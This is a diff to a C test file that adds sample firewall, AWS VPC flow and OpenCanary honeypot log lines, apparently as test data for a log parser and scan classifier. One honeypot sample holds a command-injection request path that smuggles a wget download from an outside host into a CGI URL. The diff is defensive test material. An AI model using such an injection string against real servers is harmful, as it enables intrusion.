@@ -1466,6 +1466,78 @@ static const struct sample {
      TO_TELNET,
      .class = CLASS_SCAN,
      .rule = "log:zeek-conn"},
+    {.format = "filterlog",
+     .text = "<134>1 2024-05-08T02:00:52+02:00 fw filterlog 76404 - [meta sequenceId=\"1\"] "
+             "5,,,1000000103,em0,match,block,in,4,0x0,,52,4711,0,DF,6,tcp,60,192.0.2.1,"
+             "203.0.113.9,9,23,0,S,1,,64240,,mss;sackOK\n",
+     TO_TELNET},
+    {.format = "filterlog",
+     .text = "2024-05-08T00:00:52Z fw filterlog[7]: 5,,,1,em0,match,block,in,6,0x00,0x1,52,UDP,"
+             "17,32,2001:db8::1,2001:db8::2,9,5060,32\n",
+     .src = "2001:db8::1",
+     .proto = PROTO_UDP,
+     .sport = 9,
+     .dport = 5060,
+     .time_s = 1715126452},
+    {.format = "filterlog",
+     .text =
+         "2024-05-08T00:00:52Z fw filterlog: 5,,,1,em0,match,pass,in,4,0x0,,64,6,0,DF,1,icmp,"
+         "84,192.0.2.1,203.0.113.9,request,37728,164\n",
+     .src = "192.0.2.1",
+     .proto = PROTO_ICMP,
+     .sport = 37728,
+     .dport = 8 << 8,
+     .time_s = 1715126452},
+    {.format = "windows-firewall",
+     .text = "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n"
+             "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags "
+             "tcpsyn tcpack tcpwin icmptype icmpcode info path\r\n\r\n"
+             "2024-05-08 00:00:52 DROP TCP 192.0.2.1 203.0.113.9 9 23 52 S 1 0 8192 - - - "
+             "RECEIVE\r\n",
+     TO_TELNET},
+    {.format = "aws-vpc-flow",
+     .text = "version srcaddr dstaddr srcport dstport protocol start end tcp-flags action\n"
+             "3 - - - - - 1715126452 1715126510 - -\n"
+             "3 192.0.2.1 203.0.113.9 9 23 6 1715126452 1715126510 2 REJECT\n",
+     TO_TELNET,
+     .class = CLASS_SCAN,
+     .rule = "log:aws-vpc-flow"},
+    {.format = "aws-vpc-flow",
+     .text = "account-id srcaddr dstaddr srcport dstport protocol start end tcp-flags\n"
+             "1 192.0.2.1 203.0.113.9 9 23 6 1715126452 1715126510 19\n"
+             "account-id srcaddr dstaddr srcport dstport protocol start end tcp-flags\n",
+     TO_TELNET,
+     .class = CLASS_OTHER,
+     .rule = "flow:syn-ack"},
+    {.format = "aws-vpc-flow-v2",
+     .text = "2 123456789010 eni-1235b8ca 192.0.2.1 203.0.113.9 9 23 6 20 4249 1715126452 "
+             "1715126510 ACCEPT OK\n2 123456789010 eni-1235b8ca - - - - - - - 1715126452 "
+             "1715126510 - NODATA\n",
+     TO_TELNET,
+     .class = CLASS_SCAN,
+     .rule = "log:aws-vpc-flow-v2"},
+    {.format = "opencanary",
+     .text =
+         "{\"dst_host\": \"\", \"dst_port\": -1, \"local_time\": \"2024-05-08 "
+         "00:00:00.000000\", \"logdata\": {\"msg\": \"x\"}, \"logtype\": 1001, \"node_id\": "
+         "\"c\", \"src_host\": \"\", \"src_port\": -1}\n"
+         "{\"dst_host\": \"203.0.113.9\", \"dst_port\": 23, \"local_time\": \"2024-05-08 "
+         "00:00:52.000000\", \"logdata\": {\"PASSWORD\": \"a\", \"USERNAME\": \"root\"}, "
+         "\"logtype\": 6001, \"node_id\": \"c\", \"src_host\": \"192.0.2.1\", "
+         "\"src_port\": 9, \"utc_time\": \"2024-05-08 00:00:52.000000\"}\n",
+     TO_TELNET,
+     .class = CLASS_CREDENTIAL,
+     .rule = "login"},
+    {.format = "opencanary",
+     .text = "{\"dst_host\": \"203.0.113.9\", \"dst_port\": 80, \"local_time\": \"2024-05-08 "
+             "00:00:52.000000\", \"logdata\": {\"HOSTNAME\": \"203.0.113.9\", \"PATH\": "
+             "\"/cgi-bin/;wget+http://192.0.2.7/a\", \"USERAGENT\": \"x\"}, \"logtype\": 3000, "
+             "\"node_id\": \"c\", \"src_host\": \"192.0.2.1\", \"src_port\": 9}\n",
+     .src = "192.0.2.1",
+     .proto = PROTO_TCP,
+     .sport = 9,
+     .dport = 80,
+     .time_s = 1715126452},
     {.format = "web-access",
      .text = "192.0.2.1 - - [08/May/2024:02:00:52 +0200] \"GET / HTTP/1.1\" 404 196\n",
      .src = "192.0.2.1",
